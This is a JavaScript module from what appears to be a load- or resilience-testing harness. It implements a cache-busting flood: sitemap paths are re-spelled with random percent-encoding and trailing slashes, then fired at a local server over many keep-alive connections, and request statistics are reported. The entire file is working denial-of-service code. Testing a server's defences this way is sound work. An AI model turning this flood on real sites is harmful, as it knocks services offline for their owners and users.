// The path-spelling attack: one address floods the server with spellings of its real pages (from
// the sitemap, both languages) that a path matcher takes for the page but a cache keyed on the
// path as sent does not: a trailing slash, letters percent-encoded (a different subset, and hex
// case, each time), so that nearly every request is a spelling never seen before.
import http from 'node:http';
import { attackAddresses, BROWSER, sleep } from './wire.mjs';

const REQUEST_TIMEOUT_MS = 10_000;
/** Tries to find a spelling not sent before, before one is sent again. */
const FRESH_TRIES = 20;

/** A small seeded generator (mulberry32), so two runs send the same spellings in the same order. */
function random(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

function spell(path, next) {
  let spelled = '';
  for (const char of path) {
    if (/[a-z]/i.test(char) && next() < 0.5) {
      const hex = char.charCodeAt(0).toString(16);
      spelled += `%${next() < 0.5 ? hex : hex.toUpperCase()}`;
    } else spelled += char;
  }
  return !spelled.endsWith('/') && next() < 0.5 ? `${spelled}/` : spelled;
}

/** The paths of the site's pages, from its sitemap (or the sitemaps its index names). */
async function sitemapPaths(url) {
  const locations = async (path) => {
    const response = await fetch(new URL(path, url));
    if (!response.ok) throw new Error(`${path} answered ${response.status}`);
    const xml = await response.text();
    return {
      index: xml.includes('<sitemapindex'),
      paths: [...xml.matchAll(/<loc>([^<]+)<\/loc>/g)].map((m) => new URL(m[1]).pathname),
    };
  };
  const root = await locations('/sitemap.xml');
  const paths = root.index
    ? (await Promise.all(root.paths.map(async (path) => (await locations(path)).paths))).flat()
    : root.paths;
  return [...new Set(paths)];
}

export const pathSpelling = {
  name: 'path-spelling',
  defaults: { connections: 32, addresses: 1, seconds: 30 },
  /** The kept page is asked for in brotli, the encoding whose kept copy the flood makes the server compress for every spelling. */
  visitorEncoding: 'br',
  summary: ({ connections, addresses }) => ({ connections, addresses: attackAddresses(addresses) }),
  describe: ({ connections }) =>
    `a flood of spellings of the sitemap's pages (letters percent-encoded at random, a trailing slash or not, ` +
    `each spelling new) on ${connections} keep-alive connections per address`,
  async prepare(target) {
    target.pages = (await sitemapPaths(target.url)).filter((path) => /[a-z]/i.test(path));
    if (target.pages.length === 0) throw new Error('the sitemap names no page to spell');
  },
  start({ port, settings, pages, isDead }) {
    const next = random(40);
    const sent = new Set();
    let repeated = 0;
    let page = 0;
    const nextSpelling = () => {
      for (let tries = 0; tries < FRESH_TRIES; tries += 1) {
        const spelled = spell(pages[page++ % pages.length], next);
        if (!sent.has(spelled)) {
          sent.add(spelled);
          return spelled;
        }
      }
      repeated += 1;
      return spell(pages[page++ % pages.length], next);
    };
    const statuses = {};
    let requests = 0;
    let over = false;
    const startedAt = performance.now();
    const flood = async (agent, localAddress) => {
      while (!over && !isDead()) {
        const path = nextSpelling();
        const outcome = await new Promise((resolve) => {
          const request = http.get(
            {
              host: '127.0.0.1',
              port,
              path,
              agent,
              localAddress,
              timeout: REQUEST_TIMEOUT_MS,
              headers: { 'user-agent': BROWSER, accept: 'text/html', 'accept-encoding': 'gzip, deflate, br, zstd' },
            },
            (response) => {
              response.resume();
              response.on('end', () => resolve(String(response.statusCode)));
              response.on('error', (error) => resolve(error.code ?? error.message));
            },
          );
          request.on('timeout', () => request.destroy(Object.assign(new Error('timeout'), { code: 'timeout' })));
          request.on('error', (error) => resolve(error.code ?? error.message));
        });
        requests += 1;
        statuses[outcome] = (statuses[outcome] ?? 0) + 1;
        // A refused or broken connection is not retried at once, or a dead server would be asked in a busy loop.
        if (!/^\d{3}$/.test(outcome)) await sleep(100);
      }
    };
    const agents = [];
    const loops = attackAddresses(settings.addresses).flatMap((localAddress) => {
      const agent = new http.Agent({ keepAlive: true, maxSockets: settings.connections });
      agents.push(agent);
      return Array.from({ length: settings.connections }, () => flood(agent, localAddress));
    });
    return {
      async stop() {
        over = true;
        await Promise.all(loops);
        for (const agent of agents) agent.destroy();
        const seconds = (performance.now() - startedAt) / 1000;
        return {
          outcomes: Object.fromEntries(Object.entries(statuses).map(([status, n]) => [`spellings: ${status}`, n])),
          pages: pages.length,
          requests,
          requestsPerSecond: Math.round(requests / seconds),
          distinctSpellings: sent.size,
          repeatedSpellings: repeated,
        };
      },
    };
  },
};
